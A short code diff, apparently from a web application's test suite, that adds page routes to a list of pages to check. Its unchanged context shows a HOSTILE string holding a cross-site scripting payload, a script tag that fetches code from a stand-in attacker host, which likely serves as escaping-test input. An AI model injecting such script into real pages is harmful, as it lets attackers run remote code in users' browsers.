@@ -14,7 +14,8 @@ PAGES = (
     *("", "find?q=llama", "usage", "compare", "c/none", "r/none"),
     *("settings", "settings/keys", "settings/limits"),
     *("manage/users", "manage/usage", "manage/limits", "manage/audit"),
-    *("manage/providers", "welcome#lks_1", "reset#lkr_1", "join#lki_1", "docs"),
+    *("manage/providers", "manage/invitations", "terminal", "docs"),
+    *("welcome#lks_1", "reset#lkr_1", "join#lki_1"),
 )
 HOSTILE = """
 <script>fetch('https://evil.example/script')</script>
